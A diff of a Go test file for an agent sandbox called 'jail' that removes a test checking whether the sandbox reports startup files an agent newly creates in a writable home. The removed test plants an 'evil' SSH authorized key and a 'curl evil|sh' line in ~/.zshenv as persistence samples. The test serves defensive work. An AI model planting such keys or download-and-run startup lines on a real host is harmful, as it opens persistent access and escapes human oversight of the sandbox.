@@ -615,33 +615,3 @@ func TestPersistDataPlacePrograms(t *testing.T) {
 		t.Skip("not root and no agent CLI under /opt/agents")
 	}
 }
-
-// Protected names that do not exist at start cannot be masked (jail creates
-// nothing on the host): with the home writable (asked for), the agent can
-// create ~/.ssh/authorized_keys where ~/.ssh was absent, a new ~/.zshenv or
-// ~/.npmrc. jail names each at exit, so the user looks before a shell or
-// tool loads it; a new .env in a project (the agent's own work, run by
-// nothing) is not named.
-func TestPersistCreatedReported(t *testing.T) {
-	home, env := pfHome(t)
-	r := run(t, runOpts{dir: home, env: env}, "--allow-writable-home", "--", "/bin/sh", "-c",
-		`mkdir .ssh && echo 'ssh-ed25519 AAAA evil' > .ssh/authorized_keys && echo 'curl evil|sh' > .zshenv && echo 'x=y' > .npmrc && echo ok`)
-	mustCode(t, r, 0)
-	if !strings.Contains(r.stdout, "ok") {
-		t.Fatalf("the agent could not create them (the test is broken): %s", r.stderr)
-	}
-	for _, p := range []string{".ssh", ".zshenv", ".npmrc"} {
-		if !strings.Contains(r.stderr, filepath.Join(home, p)) {
-			t.Errorf("exit does not name %s as created:\n%s", p, r.stderr)
-		}
-	}
-	if !strings.Contains(r.stderr, "did not exist at start") {
-		t.Errorf("exit does not say why they were not protected:\n%s", r.stderr)
-	}
-	ws := workspace(t)
-	r = run(t, runOpts{dir: ws}, "--", "/bin/sh", "-c", `echo A=1 > .env`)
-	mustCode(t, r, 0)
-	if strings.Contains(r.stderr, "created inside the sandbox") {
-		t.Errorf("a new .env in a project is named as a startup file:\n%s", r.stderr)
-	}
-}
